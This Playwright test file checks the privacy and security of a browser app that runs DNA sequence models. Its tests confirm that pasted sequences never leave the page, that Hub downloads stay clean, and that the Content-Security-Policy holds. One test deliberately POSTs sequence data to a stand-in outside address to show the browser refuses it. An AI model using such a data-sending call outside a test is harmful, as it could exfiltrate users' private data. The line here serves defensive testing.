// Nothing leaves the browser unasked: every request of a full session is a same-origin static asset, and none
// carries the pasted sequence; the only requests that leave the origin are a Hub download's, on the person's
// click, and they carry no sequence either. Plus an accessibility scan of the analysed page.
import AxeBuilder from '@axe-core/playwright';
import { expect, test } from '@playwright/test';
import { HUB_HOSTS } from '../src/model/hub/hubDownload';
import { openAndAnalyse, startMutagenesis, waitForModel } from './helpers';
import { pressHubButton, serveHub } from './hubRoutes';

// a made-up sequence, so a match in any request can only come from the paste
const SECRET = 'ACGTTGCAAGGCTTAACCGGTATCGATCGGATCCATGCAAGTCTTGACGGTACCATGGCAAT'.repeat(4);

test('a whole session makes only same-origin static requests, none containing the sequence', async ({
  page,
  baseURL,
}) => {
  const requests: { url: string; method: string; body: string }[] = [];
  page.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() ?? '' }));
  await page.goto('./');
  await waitForModel(page);
  await page.getByLabel('DNA sequence or FASTA').fill(`>secret\n${SECRET}`);
  await page.getByRole('button', { name: 'Run' }).click();
  await expect(page.getByText(/Attention layer \d+, head \d+/)).toBeVisible();
  await page.getByLabel('Variants').fill(`10${SECRET[9]}>${SECRET[9] === 'A' ? 'C' : 'A'}`);
  await page.getByRole('button', { name: 'Add' }).click();
  await startMutagenesis(page, 1, 20);
  await expect(page.getByTestId('mutagenesis')).toBeVisible();
  await page.locator('#model-select').selectOption({ index: 1 });
  await waitForModel(page);
  await page.getByTestId('hub-models').locator('summary').click(); // the catalogue open, nothing pressed
  await expect(page.getByTestId('hub-gpn-brassicales')).toBeVisible();

  const origin = new URL(baseURL!).origin;
  expect(requests.length).toBeGreaterThan(5);
  for (const r of requests) {
    expect(new URL(r.url).origin, r.url).toBe(origin);
    expect(r.method, r.url).toBe('GET');
    expect(r.url.toUpperCase()).not.toContain(SECRET.slice(0, 24));
    expect(r.body).not.toContain(SECRET.slice(0, 24));
  }
});

test("a Hub download, on the person's click, reaches only the Hub's hosts, with no sequence, body or referrer", async ({
  page,
  baseURL,
}) => {
  const requests: { url: string; method: string; body: string; headers: Record<string, string> }[] = [];
  page.on('request', (r) =>
    requests.push({ url: r.url(), method: r.method(), body: r.postData() ?? '', headers: r.headers() }),
  );
  await page.goto('./?backend=wasm');
  await waitForModel(page);
  await page.getByLabel('DNA sequence or FASTA').fill(`>secret\n${SECRET}`);
  await page.getByRole('button', { name: 'Run' }).click();
  await expect(page.getByTestId('scan-summary')).toContainText('bits/nt');
  const origin = new URL(baseURL!).origin;
  expect(requests.filter((r) => new URL(r.url).origin !== origin)).toEqual([]);

  const repo = 'kuleshov-group/caduceus-ps_seqlen-131k_d_model-256_n_layer-16';
  await serveHub(page, repo, 'caduceus-ps');
  await pressHubButton(page, 'caduceus-ps-131k', /Download from Hugging Face/);
  await expect(page.getByTestId('published-card')).toContainText('Apache-2.0');
  await expect(page.getByTestId('scan-summary')).toContainText('bits/nt'); // the sequence reran, in the page

  const away = requests.filter((r) => new URL(r.url).origin !== origin);
  expect(away.map((r) => r.url)).toEqual([
    `https://huggingface.co/${repo}/resolve/main/config.json`,
    `https://huggingface.co/${repo}/resolve/main/model.safetensors`,
  ]);
  for (const r of away) {
    expect(HUB_HOSTS).toContain(new URL(r.url).host);
    expect(r.method, r.url).toBe('GET');
    expect(r.body, r.url).toBe('');
    expect(r.headers.referer, r.url).toBeUndefined();
    expect(JSON.stringify(r.headers)).not.toContain(SECRET.slice(0, 24));
    expect(r.url.toUpperCase()).not.toContain(SECRET.slice(0, 24));
  }
});

test('no serious or critical accessibility violations on the analysed page', async ({ page }) => {
  await openAndAnalyse(page);
  const results = await new AxeBuilder({ page }).analyze();
  const bad = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
  expect(bad.map((v) => `${v.id}: ${v.help} (${v.nodes.length})`)).toEqual([]);
});

test("the Content-Security-Policy (header and meta tag) keeps scripts and workers on this origin, connections on it and the Hub's hosts", async ({
  page,
}) => {
  const response = await page.goto('./');
  const header = response!.headers()['content-security-policy']!;
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(header).toBe(meta);
  for (const directive of [
    "default-src 'self'",
    `connect-src 'self' ${HUB_HOSTS.map((h) => `https://${h}`).join(' ')};`,
    "worker-src 'self' blob:",
    "script-src 'self' blob: 'wasm-unsafe-eval'",
  ]) {
    expect(header).toContain(directive);
  }
  // no host outside connect-src, no wildcard anywhere
  expect(header.replace(/connect-src [^;]*;/, '')).not.toMatch(/https?:|\*/);
  expect(header).not.toContain('*');
  // and the browser enforces it: a connection elsewhere is refused before it leaves the page
  const violation = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        type Doc = {
          addEventListener: (type: string, f: (e: { violatedDirective: string }) => void, o: object) => void;
        };
        (globalThis as unknown as { document: Doc }).document.addEventListener(
          'securitypolicyviolation',
          (e) => resolve(e.violatedDirective),
          { once: true },
        );
        fetch('http://192.0.2.1/collect', { method: 'POST', body: 'ACGT' }).catch(() => undefined);
      }),
  );
  expect(violation).toBe('connect-src');
});
